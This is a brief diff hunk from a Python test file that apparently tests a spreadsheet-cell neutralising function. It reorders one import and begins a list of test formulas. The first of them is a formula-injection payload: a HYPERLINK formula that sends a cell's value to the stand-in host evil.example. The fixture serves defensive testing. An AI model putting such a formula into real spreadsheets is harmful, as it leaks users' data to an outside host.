@@ -9,8 +9,8 @@ import pytest
 
 from mfo.admin.views.base import neutralise_cell
 from mfo.database import db
-from tests.conftest import create_user
 from tests.admin_helpers import add_role, fresh_user
+from tests.conftest import create_user
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
